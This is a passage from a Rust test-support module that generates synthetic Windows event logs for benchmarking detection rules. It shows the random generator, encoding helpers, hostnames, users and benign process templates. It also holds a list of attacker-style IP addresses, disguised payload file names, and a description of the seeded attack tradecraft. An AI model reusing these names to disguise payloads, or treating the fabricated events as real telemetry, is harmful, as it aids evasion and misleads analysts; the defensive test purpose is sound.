//! Deterministic generator of Windows-like JSON events for benchmarks and tests.
//!
//! The events are flat JSON objects shaped like Windows event log records as commonly
//! exported to JSON (Sysmon, Security, PowerShell and System channels): `EventID`,
//! `Channel`, `Provider_Name`, `Computer` plus the `EventData` fields of the record
//! (`Image`, `CommandLine`, `ParentImage`, `TargetObject`, `DestinationIp`, ...), which is
//! the field naming the SigmaHQ `windows` rules use.
//!
//! Almost all events are benign, everyday workstation and server activity (browsers,
//! Office, developer tools, services, logons). A small deterministic fraction (about 1.5%)
//! is built from real attacker tradecraft of the kind SigmaHQ rules detect (credential
//! dumping, LOLBins downloading payloads, shadow copy deletion, persistence, ...).
//!
//! No external randomness is used: the same `(seed, count)` always yields the same events,
//! and a shorter run is a prefix of a longer one with the same seed.
//!
//! Include it from a bench or test with:
//!
//! ```ignore
//! #[path = "support/windows_events.rs"]
//! mod windows_events;
//! ```

use serde_json::{Map, Value};

/// Generates `count` Windows-like events from `seed`.
///
/// The output is fully determined by `(seed, count)`, and `generate(s, n)` is a prefix of
/// `generate(s, m)` for `n <= m`.
pub fn generate(seed: u64, count: usize) -> Vec<Value> {
    let mut generator = Generator::new(seed);
    (0..count).map(|_| generator.event()).collect()
}

/// Out of 1000 events, how many are built from attacker tradecraft.
const SUSPICIOUS_PER_MILLE: usize = 15;

/// 2024-05-14T08:00:00Z in milliseconds since the Unix epoch.
const START_MS: u64 = 1_715_673_600_000;

const DOMAIN: &str = "CORP";
const DNS_DOMAIN: &str = "corp.contoso.com";
const MS_COMPANY: &str = "Microsoft Corporation";
const MS_PRODUCT: &str = "Microsoft\u{ae} Windows\u{ae} Operating System";
const MS_VERSION: &str = "10.0.19041.1 (WinBuild.160101.0800)";
const SYSTEM_USER: &str = "NT AUTHORITY\\SYSTEM";
/// `PrivilegeList` of a 4672 event for `SYSTEM`, with the separators Windows uses.
const SYSTEM_PRIVILEGES: &str = "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\t\
    SeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\t\
    SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\t\
    SeAuditPrivilege";

// ---------------------------------------------------------------------------------------
// PRNG
// ---------------------------------------------------------------------------------------

/// SplitMix64: tiny, fast and good enough for synthetic data.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        Rng(seed ^ 0x6A09_E667_F3BC_C909)
    }

    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`).
    fn below(&mut self, n: usize) -> usize {
        ((u128::from(self.next_u64()) * n as u128) >> 64) as usize
    }

    /// Uniform in `lo..=hi`.
    fn between(&mut self, lo: u64, hi: u64) -> u64 {
        lo + ((u128::from(self.next_u64()) * u128::from(hi - lo + 1)) >> 64) as u64
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn per_mille(&mut self, p: usize) -> bool {
        self.below(1000) < p
    }

    fn hex(&mut self, len: usize, upper: bool) -> String {
        let digits: &[u8; 16] = if upper {
            b"0123456789ABCDEF"
        } else {
            b"0123456789abcdef"
        };
        (0..len)
            .map(|_| char::from(digits[self.below(16)]))
            .collect()
    }

    fn guid(&mut self) -> String {
        format!(
            "{{{}-{}-{}-{}-{}}}",
            self.hex(8, false),
            self.hex(4, false),
            self.hex(4, false),
            self.hex(4, false),
            self.hex(12, false)
        )
    }

    fn upper_guid(&mut self) -> String {
        self.guid().to_ascii_uppercase()
    }

    /// Lower-case alphanumeric word.
    fn word(&mut self, len: usize) -> String {
        const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
        (0..len)
            .map(|_| char::from(ALNUM[self.below(ALNUM.len())]))
            .collect()
    }

    /// Lower-case letters only.
    fn letters(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from(b'a' + self.below(26) as u8))
            .collect()
    }
}

/// FNV-1a, used to derive stable per-binary hashes from a path.
fn fnv1a(text: &str) -> u64 {
    text.bytes().fold(0xCBF2_9CE4_8422_2325, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01B3)
    })
}

/// Standard base64 (with padding).
fn base64(bytes: &[u8]) -> String {
    const TABLE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(TABLE[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// What PowerShell's `-EncodedCommand` expects: base64 of UTF-16LE.
fn powershell_encode(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&bytes)
}

/// `(year, month, day)` from days since 1970-01-01 (Howard Hinnant's algorithm).
fn civil_from_days(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let month = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let year = yoe + era * 400 + i64::from(month <= 2);
    (year, month, day)
}

// ---------------------------------------------------------------------------------------
// Static vocabulary
// ---------------------------------------------------------------------------------------

const FIRST_NAMES: &[&str] = &[
    "james", "maria", "wei", "aisha", "olivia", "liam", "sofia", "noah", "priya", "lucas", "emma",
    "mateo", "hana", "omar", "chloe", "ethan", "fatima", "daniel", "yuki", "grace",
];
const LAST_NAMES: &[&str] = &[
    "smith", "garcia", "chen", "khan", "johnson", "mueller", "rossi", "nguyen", "patel", "silva",
    "kim", "brown", "novak", "dubois", "tanaka", "wilson", "haddad", "larsen",
];
const DEPARTMENTS: &[&str] = &["FIN", "HR", "ENG", "MKT", "OPS", "LEG", "SAL", "IT"];
const SERVERS: &[&str] = &[
    "SRV-DC01",
    "SRV-DC02",
    "SRV-FS01",
    "SRV-SQL01",
    "SRV-APP03",
    "SRV-WEB02",
    "SRV-EXCH01",
];
const DOCUMENTS: &[&str] = &[
    "Q3 forecast",
    "Budget 2024 draft v3",
    "Onboarding checklist",
    "Meeting notes 2024-05-13",
    "Vendor contract - signed",
    "Roadmap H2",
    "Incident review",
    "Expense report April",
];
const REPOS: &[&str] = &[
    "billing-service",
    "web-frontend",
    "data-pipeline",
    "infra-terraform",
    "mobile-app",
    "analytics",
];
const WEB_SITES: &[(&str, &str)] = &[
    ("www.google.com", "142.250.185.68"),
    ("login.microsoftonline.com", "20.190.159.2"),
    ("outlook.office365.com", "52.97.146.162"),
    ("teams.microsoft.com", "52.113.194.132"),
    ("github.com", "140.82.121.4"),
    ("api.github.com", "140.82.121.6"),
    ("update.googleapis.com", "142.250.186.35"),
    ("pypi.org", "151.101.0.223"),
    ("registry.npmjs.org", "104.16.24.34"),
    ("www.bing.com", "13.107.21.200"),
    ("contoso.sharepoint.com", "13.107.136.10"),
    ("slack.com", "3.65.102.105"),
    ("static.crates.io", "18.154.227.86"),
    ("settings-win.data.microsoft.com", "20.42.73.29"),
    ("clients2.google.com", "142.250.184.206"),
];
/// Microsoft 365 endpoints (addresses inside Microsoft's published 365 ranges).
const MICROSOFT_365_SITES: &[(&str, &str)] = &[
    ("outlook.office365.com", "52.97.146.162"),
    ("outlook.office.com", "52.98.59.2"),
    ("teams.microsoft.com", "52.113.194.132"),
    ("login.microsoftonline.com", "20.190.159.2"),
    ("contoso.sharepoint.com", "13.107.136.10"),
    ("contoso-my.sharepoint.com", "13.107.138.10"),
];
/// Endpoints Windows services talk to.
const WINDOWS_SITES: &[(&str, &str)] = &[
    ("settings-win.data.microsoft.com", "20.42.73.29"),
    ("v10.events.data.microsoft.com", "20.42.65.92"),
    ("login.live.com", "20.190.159.2"),
    ("ctldl.windowsupdate.com", "23.216.81.152"),
    ("time.windows.com", "51.105.208.173"),
];
/// GitHub endpoints.
const GITHUB_SITES: &[(&str, &str)] = &[
    ("github.com", "140.82.121.4"),
    ("api.github.com", "140.82.121.6"),
    ("codeload.github.com", "140.82.121.10"),
];
const ATTACKER_IPS: &[&str] = &[
    "185.220.101.47",
    "45.137.21.9",
    "91.215.85.142",
    "194.26.29.113",
    "103.75.190.11",
    "5.188.206.14",
];
const PAYLOAD_NAMES: &[&str] = &[
    "update",
    "svchost32",
    "winlog",
    "invoice",
    "setup_x64",
    "dllhost64",
    "msupdate",
    "chk",
];

// ---------------------------------------------------------------------------------------
// Generator state
// ---------------------------------------------------------------------------------------

struct Host {
    name: String,
    fqdn: String,
    ip: String,
    server: bool,
}

#[derive(Clone)]
struct User {
    name: String,
    sid: String,
}

impl User {
    fn qualified(&self) -> String {
        format!("{DOMAIN}\\{}", self.name)
    }

    fn home(&self) -> String {
        format!("C:\\Users\\{}", self.name)
    }
}

/// One process as seen by a process-creation event.
struct Proc {
    image: String,
    original: String,
    description: String,
    product: String,
    company: String,
    version: String,
    command_line: String,
    parent_image: String,
    parent_command_line: String,
    current_directory: String,
    integrity: &'static str,
    user: String,
}

impl Proc {
    /// A Microsoft-signed Windows binary.
    fn windows(image: &str, original: &str, description: &str) -> Proc {
        Proc {
            image: image.to_owned(),
            original: original.to_owned(),
            description: description.to_owned(),
            product: MS_PRODUCT.to_owned(),
            company: MS_COMPANY.to_owned(),
            version: MS_VERSION.to_owned(),
            command_line: String::new(),
            parent_image: "C:\\Windows\\System32\\services.exe".to_owned(),
            parent_command_line: "C:\\Windows\\system32\\services.exe".to_owned(),
            current_directory: "C:\\Windows\\system32\\".to_owned(),
            integrity: "System",
            user: SYSTEM_USER.to_owned(),
        }
    }

    /// A third-party application.
    fn app(image: String, original: &str, description: &str, product: &str, company: &str) -> Proc {
        Proc {
            image,
            original: original.to_owned(),
            description: description.to_owned(),
            product: product.to_owned(),
            company: company.to_owned(),
            version: "-".to_owned(),
            command_line: String::new(),
            parent_image: "C:\\Windows\\explorer.exe".to_owned(),
            parent_command_line: "C:\\Windows\\Explorer.EXE".to_owned(),
            current_directory: "C:\\Windows\\system32\\".to_owned(),
            integrity: "Medium",
            user: String::new(),
        }
    }

    fn cmd(mut self, command_line: String) -> Proc {
        self.command_line = command_line;
        self
    }

    fn parent(mut self, image: &str, command_line: &str) -> Proc {
        self.parent_image = image.to_owned();
        self.parent_command_line = command_line.to_owned();
        self
    }

    fn cwd(mut self, dir: String) -> Proc {
        self.current_directory = dir;
        self
    }

    fn version(mut self, version: &str) -> Proc {
        self.version = version.to_owned();
        self
    }

    /// Runs as an interactive domain user at medium integrity.
    fn run_by(mut self, user: &User) -> Proc {
        self.user = user.qualified();
        self.integrity = "Medium";
        self
    }

    /// Runs as an elevated domain user.
    fn elevated(mut self, user: &User) -> Proc {
        self.user = user.qualified();
        self.integrity = "High";
        self
    }

    fn run_as(mut self, user: &str, integrity: &'static str) -> Proc {
        self.user = user.to_owned();
        self.integrity = integrity;
        self
    }
}

/// Builder for one flat JSON event.
struct Ev(Map<String, Value>);

impl Ev {
    fn s(mut self, key: &str, value: impl Into<String>) -> Ev {
        self.0.insert(key.to_owned(), Value::String(value.into()));
        self
    }

    fn n(mut self, key: &str, value: u64) -> Ev {
        self.0.insert(key.to_owned(), Value::from(value));
        self
    }

    fn done(self) -> Value {
        Value::Object(self.0)
    }
}

struct Generator {
    rng: Rng,
    hosts: Vec<Host>,
    users: Vec<User>,
    domain_sid: String,
    clock_ms: u64,
    record_id: u64,
}

impl Generator {
    fn new(seed: u64) -> Generator {
        let mut rng = Rng::new(seed);
        let domain_sid = format!(
            "S-1-5-21-{}-{}-{}",
            rng.between(1_000_000_000, 4_000_000_000),
            rng.between(1_000_000_000, 4_000_000_000),
            rng.between(1_000_000_000, 4_000_000_000)
        );
        let mut hosts = Vec::new();
        for i in 0..48 {
            let dept = rng.pick(DEPARTMENTS);
            let name = format!("WKS-{dept}-{:04}", rng.between(1, 9999));
            hosts.push(Host {
                fqdn: format!("{name}.{DNS_DOMAIN}"),
                name,
                ip: format!("10.20.{}.{}", 8 + i / 8, rng.between(10, 250)),
                server: false,
            });
        }
        for (i, server) in SERVERS.iter().enumerate() {
            hosts.push(Host {
                name: (*server).to_owned(),
                fqdn: format!("{server}.{DNS_DOMAIN}"),
                ip: format!("10.10.0.{}", 10 + i),
                server: true,
            });
        }
        let mut users = Vec::new();
        for i in 0..60u64 {
            let first = rng.pick(FIRST_NAMES);
            let last = rng.pick(LAST_NAMES);
            users.push(User {
                name: format!("{}{last}", &first[..1]),
                sid: format!("{domain_sid}-{}", 1104 + i),
            });
        }
        Generator {
            rng,
            hosts,
            users,
            domain_sid,
            clock_ms: START_MS,
            record_id: 1_204_331,
        }
    }

    // -- helpers ------------------------------------------------------------------------

    fn host(&mut self) -> usize {
        // Workstations produce most of the telemetry.
        if self.rng.per_mille(850) {
            self.rng.below(48)
        } else {
            48 + self.rng.below(SERVERS.len())
        }
    }

    fn user(&mut self) -> usize {
        self.rng.below(self.users.len())
    }

    /// `(UtcTime, TimeCreated)` of the current event.
    fn timestamps(&self) -> (String, String) {
        let secs = (self.clock_ms / 1000) as i64;
        let millis = self.clock_ms % 1000;
        let (y, mo, d) = civil_from_days(secs.div_euclid(86_400));
        let sod = secs.rem_euclid(86_400);
        let (h, mi, s) = (sod / 3600, (sod / 60) % 60, sod % 60);
        (
            format!("{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}.{millis:03}"),
            format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{millis:03}Z"),
        )
    }

    fn envelope(&mut self, event_id: u64, host: usize, channel: &str, provider: &str) -> Ev {
        self.record_id += 1;
        let (_, created) = self.timestamps();
        Ev(Map::new())
            .n("EventID", event_id)
            .s("Channel", channel)
            .s("Provider_Name", provider)
            .s("Computer", self.hosts[host].fqdn.clone())
            .n("EventRecordID", self.record_id)
            .s("TimeCreated", created)
    }

    fn sysmon(&mut self, event_id: u64, host: usize) -> Ev {
        let (utc, _) = self.timestamps();
        self.envelope(
            event_id,
            host,
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon",
        )
        .s("RuleName", "-")
        .s("UtcTime", utc)
        .n("Version", 5)
        .n("Level", 4)
    }

    fn security(&mut self, event_id: u64, host: usize, success: bool) -> Ev {
        self.envelope(
            event_id,
            host,
            "Security",
            "Microsoft-Windows-Security-Auditing",
        )
        .s(
            "Keywords",
            if success {
                "Audit Success"
            } else {
                "Audit Failure"
            },
        )
        .n("Level", 0)
    }

    fn pid(&mut self) -> u64 {
        self.rng.between(1, 16_000) * 4
    }

    fn hashes(image: &str) -> String {
        let mut r = Rng::new(fnv1a(&image.to_ascii_lowercase()));
        format!(
            "SHA1={},MD5={},SHA256={},IMPHASH={}",
            r.hex(40, true),
            r.hex(32, true),
            r.hex(64, true),
            r.hex(32, true)
        )
    }

    fn logon_id(&mut self) -> String {
        format!("0x{:x}", self.rng.between(0x3e7, 0x2_ffff_ffff))
    }

    fn machine_account(&self, host: usize) -> String {
        format!("{}$", self.hosts[host].name)
    }

    fn chromium_flags(&mut self) -> String {
        format!(
            "--field-trial-handle={},i,{},{},262144 /prefetch:{}",
            self.rng.between(1800, 2300),
            self.rng
                .between(1_000_000_000_000_000, 18_000_000_000_000_000_000),
            self.rng
                .between(1_000_000_000_000_000, 18_000_000_000_000_000_000),
            self.rng.between(1, 8)
        )
    }

    // -- main dispatch ------------------------------------------------------------------

    fn event(&mut self) -> Value {
        self.clock_ms += self.rng.between(1, 250);
        if self.rng.per_mille(SUSPICIOUS_PER_MILLE) {
            return self.suspicious();
        }
        let roll = self.rng.below(1000);
        match roll {
            0..260 => {
                let host = self.host();
                let p = self.benign_process(host);
                self.process_creation(host, &p)
            }
            260..400 => self.network_connection(),
            400..520 => self.file_create(),
            520..650 => self.registry_event(),
            650..740 => self.dns_query(),
            740..830 => self.image_load(),
            830..850 => self.process_access(),
            850..900 => self.logon_success(),
            900..910 => self.logon_failure(),
            910..930 => self.logoff(),
            930..945 => self.special_privileges(),
            945..975 => {
                let host = self.host();
                let p = self.benign_process(host);
                self.security_process_creation(host, &p)
            }
            975..995 => self.powershell_script_block(),
            _ => self.service_install(),
        }
    }

    // -- benign processes ---------------------------------------------------------------

    fn benign_process(&mut self, host: usize) -> Proc {
        let u = self.user();
        let user = &self.users[u].clone();
        let home = user.home();
        let server = self.hosts[host].server;
        let choice = if server {
            // Servers run services, not browsers.
            *self
                .rng
                .pick(&[0usize, 0, 0, 9, 10, 11, 14, 15, 16, 18, 19])
        } else {
            self.rng.below(24)
        };
        match choice {
            0 => {
                let (group, svc, account) = *self.rng.pick(&[
                    ("netsvcs", "Schedule", SYSTEM_USER),
                    ("netsvcs", "gpsvc", SYSTEM_USER),
                    (
                        "LocalServiceNetworkRestricted",
                        "Dhcp",
                        "NT AUTHORITY\\LOCAL SERVICE",
                    ),
                    (
                        "NetworkService",
                        "Dnscache",
                        "NT AUTHORITY\\NETWORK SERVICE",
                    ),
                    ("LocalSystemNetworkRestricted", "SysMain", SYSTEM_USER),
                    ("UnistackSvcGroup", "CDPUserSvc", SYSTEM_USER),
                    ("wsappx", "AppXSvc", SYSTEM_USER),
                    ("LocalService", "EventSystem", "NT AUTHORITY\\LOCAL SERVICE"),
                    ("netsvcs", "Winmgmt", SYSTEM_USER),
                ]);
                Proc::windows(
                    "C:\\Windows\\System32\\svchost.exe",
                    "svchost.exe",
                    "Host Process for Windows Services",
                )
                .cmd(format!(
                    "C:\\Windows\\system32\\svchost.exe -k {group} -p -s {svc}"
                ))
                .run_as(account, "System")
            }
            1 => {
                let app = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
                let flags = self.chromium_flags();
                let kind = self.rng.below(3);
                let cmd = match kind {
                    0 => format!(
                        "\"{app}\" --type=renderer --lang=en-US --device-scale-factor=1 \
                         --num-raster-threads=4 --renderer-client-id={} {flags}",
                        self.rng.between(5, 400)
                    ),
                    1 => format!(
                        "\"{app}\" --type=utility --utility-sub-type=storage.mojom.StorageService \
                         --lang=en-US --service-sandbox-type=service {flags}"
                    ),
                    _ => format!(
                        "\"{app}\" --type=gpu-process \
                         --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA {flags}"
                    ),
                };
                Proc::app(
                    app.to_owned(),
                    "chrome.exe",
                    "Google Chrome",
                    "Google Chrome",
                    "Google LLC",
                )
                .version("124.0.6367.202")
                .cmd(cmd)
                .parent(app, &format!("\"{app}\" --restore-last-session"))
                .cwd("C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.202\\".to_owned())
                .run_by(user)
                .run_as(&user.qualified(), if kind == 0 { "Low" } else { "Medium" })
            }
            2 => {
                let app = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
                let flags = self.chromium_flags();
                Proc::app(
                    app.to_owned(),
                    "msedge.exe",
                    "Microsoft Edge",
                    "Microsoft Edge",
                    MS_COMPANY,
                )
                .version("124.0.2478.97")
                .cmd(format!(
                    "\"{app}\" --type=utility --utility-sub-type=network.mojom.NetworkService \
                     --lang=en-US --service-sandbox-type=none {flags}"
                ))
                .parent(app, &format!("\"{app}\" --profile-directory=Default"))
                .run_by(user)
            }
            3 => Proc::windows(
                "C:\\Windows\\explorer.exe",
                "EXPLORER.EXE",
                "Windows Explorer",
            )
            .cmd("C:\\Windows\\Explorer.EXE".to_owned())
            .parent(
                "C:\\Windows\\System32\\userinit.exe",
                "C:\\Windows\\system32\\userinit.exe",
            )
            .run_by(user),
            4 => {
                let app = format!("{home}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe");
                let cmd = format!(
                    "\"{app}\" --type=renderer --autoplay-policy=no-user-gesture-required \
                     --lang=en-US --renderer-client-id={} \
                     --mojo-platform-channel-handle={} /prefetch:1",
                    self.rng.between(5, 60),
                    self.rng.between(2000, 4000)
                );
                Proc::app(
                    app.clone(),
                    "Teams.exe",
                    "Microsoft Teams",
                    "Microsoft Teams",
                    MS_COMPANY,
                )
                .version("1.7.00.6058")
                .cmd(cmd)
                .parent(&app, &format!("\"{app}\" --system-initiated"))
                .cwd(format!(
                    "{home}\\AppData\\Local\\Microsoft\\Teams\\current\\"
                ))
                .run_by(user)
            }
            5 => {
                let app =
                    format!("{home}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe");
                let repo = self.rng.pick(REPOS);
                let args = match self.rng.below(5) {
                    0 => "-m pytest tests\\unit -q --maxfail=1".to_owned(),
                    1 => "-m pip list --outdated --format=columns".to_owned(),
                    2 => format!(
                        "scripts\\etl_daily.py --date 2024-05-{:02} --out data\\out.parquet",
                        self.rng.between(1, 13)
                    ),
                    3 => "manage.py runserver 127.0.0.1:8000".to_owned(),
                    _ => "-m black --check src tests".to_owned(),
                };
                Proc::app(
                    app.clone(),
                    "python.exe",
                    "Python",
                    "Python",
                    "Python Software Foundation",
                )
                .version("3.11.9")
                .cmd(format!("\"{app}\" {args}"))
                .parent(
                    "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
                    "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
                )
                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
                .run_by(user)
            }
            6 => {
                let repo = self.rng.pick(REPOS);
                let args = *self.rng.pick(&[
                    "fetch origin --prune --no-recurse-submodules",
                    "status -z -uall --porcelain=v2 --branch",
                    "log --oneline --decorate -n 20",
                    "rev-parse --show-toplevel",
                    "pull --rebase origin main",
                    "for-each-ref --sort -committerdate --format %(refname) refs/heads",
                ]);
                let code = format!("{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe");
                Proc::app(
                    "C:\\Program Files\\Git\\cmd\\git.exe".to_owned(),
                    "git.exe",
                    "Git for Windows",
                    "Git",
                    "The Git Development Community",
                )
                .version("2.45.1.windows.1")
                .cmd(format!("\"C:\\Program Files\\Git\\cmd\\git.exe\" {args}"))
                .parent(&code, &format!("\"{code}\""))
                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
                .run_by(user)
            }
            7 => {
                let app = format!("{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe");
                let flags = self.chromium_flags();
                Proc::app(
                    app.clone(),
                    "electron.exe",
                    "Visual Studio Code",
                    "Visual Studio Code",
                    MS_COMPANY,
                )
                .version("1.89.1")
                .cmd(format!(
                    "\"{app}\" --type=utility --utility-sub-type=node.mojom.NodeService \
                         --lang=en-US --service-sandbox-type=none {flags}"
                ))
                .parent(&app, &format!("\"{app}\""))
                .cwd(format!(
                    "{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\"
                ))
                .run_by(user)
            }
            8 => {
                let repo = self.rng.pick(REPOS);
                let script = *self.rng.pick(&[
                    "run build",
                    "install --no-audit --no-fund",
                    "test -- --watch=false",
                    "run lint",
                ]);
                Proc::app(
                    "C:\\Program Files\\nodejs\\node.exe".to_owned(),
                    "node.exe",
                    "Node.js JavaScript Runtime",
                    "Node.js",
                    "Node.js",
                )
                .version("20.13.1")
                .cmd(format!(
                    "\"C:\\Program Files\\nodejs\\node.exe\" \
                     \"C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js\" {script}"
                ))
                .parent(
                    "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
                    "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
                )
                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
                .run_by(user)
            }
            9 => Proc::windows(
                "C:\\Windows\\System32\\conhost.exe",
                "CONHOST.EXE",
                "Console Window Host",
            )
            .cmd("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1".to_owned())
            .parent(
                "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
                "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
            )
            .run_by(user),
            10 => Proc::windows(
                "C:\\Windows\\System32\\RuntimeBroker.exe",
                "RuntimeBroker.exe",
                "Runtime Broker",
            )
            .cmd("C:\\Windows\\System32\\RuntimeBroker.exe -Embedding".to_owned())
            .parent(
                "C:\\Windows\\System32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            )
            .run_by(user),
            11 => {
                let clsid = self.rng.upper_guid();
                Proc::windows(
                    "C:\\Windows\\System32\\dllhost.exe",
                    "dllhost.exe",
                    "COM Surrogate",
                )
                .cmd(format!(
                    "C:\\Windows\\system32\\DllHost.exe /Processid:{clsid}"
                ))
                .parent(
                    "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                )
                .run_by(user)
            }
            12 => {
                let doc = self.rng.pick(DOCUMENTS);
                let app = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
                Proc::app(
                    app.to_owned(),
                    "WinWord.exe",
                    "Microsoft Word",
                    "Microsoft Office",
                    MS_COMPANY,
                )
                .version("16.0.17531.20152")
                .cmd(format!(
                    "\"{app}\" /n \"{home}\\Documents\\{doc}.docx\" /o \"\""
                ))
                .cwd(format!("{home}\\Documents\\"))
                .run_by(user)
            }
            13 => {
                let app = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
                Proc::app(
                    app.to_owned(),
                    "Outlook.exe",
                    "Microsoft Outlook",
                    "Microsoft Outlook",
                    MS_COMPANY,
                )
                .version("16.0.17531.20152")
                .cmd(format!("\"{app}\" /recycle"))
                .run_by(user)
            }
            14 => {
                let dir = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0";
                Proc::windows(
                    &format!("{dir}\\MpCmdRun.exe"),
                    "MpCmdRun.exe",
                    "Microsoft Malware Protection Command Line Utility",
                )
                .cmd(format!(
                    "\"{dir}\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges"
                ))
                .parent(
                    "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                )
            }
            15 => Proc::windows(
                "C:\\Windows\\System32\\taskhostw.exe",
                "taskhostw.exe",
                "Host Process for Windows Tasks",
            )
            .cmd(
                "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly".to_owned(),
            )
            .parent(
                "C:\\Windows\\System32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            ),
            16 => Proc::windows(
                "C:\\Windows\\System32\\SearchProtocolHost.exe",
                "SearchProtocolHost.exe",
                "Microsoft Windows Search Protocol Host",
            )
            .cmd(format!(
                "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" \
                 Global\\UsGthrFltPipeMssGthrPipe{n}_ \
                 Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \
                 \"Software\\Microsoft\\Windows Search\"",
                n = self.rng.between(1, 300)
            ))
            .parent(
                "C:\\Windows\\System32\\SearchIndexer.exe",
                "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
            ),
            17 => {
                let app = "C:\\Program Files\\Mozilla Firefox\\firefox.exe";
                let cmd = format!(
                    "\"{app}\" -contentproc --channel=\"{}.{}.{}\" -childID {} -isForBrowser \
                     -prefsLen {} -prefMapSize 244583 -parentBuildID 20240510 {} tab",
                    self.rng.between(1000, 9999),
                    self.rng.between(1, 40),
                    self.rng.between(100_000_000, 999_999_999),
                    self.rng.between(1, 40),
                    self.rng.between(30_000, 40_000),
                    self.rng.between(1000, 9999)
                );
                Proc::app(
                    app.to_owned(),
                    "firefox.exe",
                    "Firefox",
                    "Firefox",
                    "Mozilla Corporation",
                )
                .version("126.0")
                .cmd(cmd)
                .parent(app, &format!("\"{app}\""))
                .cwd("C:\\Program Files\\Mozilla Firefox\\".to_owned())
                .run_by(user)
                .run_as(&user.qualified(), "Low")
            }
            18 => Proc::windows(
                "C:\\Windows\\System32\\backgroundTaskHost.exe",
                "backgroundTaskHost.exe",
                "Background Task Host",
            )
            .cmd(
                "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" \
                 -ServerName:BackgroundTaskHost.WebAccountProvider"
                    .to_owned(),
            )
            .parent(
                "C:\\Windows\\System32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            )
            .run_by(user),
            19 => Proc::windows(
                "C:\\Windows\\System32\\msiexec.exe",
                "msiexec.exe",
                "Windows\u{ae} installer",
            )
            .cmd("C:\\Windows\\system32\\msiexec.exe /V".to_owned()),
            20 => {
                let app = format!("{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe");
                Proc::app(
                    app.clone(),
                    "OneDrive.exe",
                    "Microsoft OneDrive",
                    "Microsoft OneDrive",
                    MS_COMPANY,
                )
                .version("24.086.0428.0003")
                .cmd(format!("\"{app}\" /background"))
                .run_by(user)
            }
            21 => {
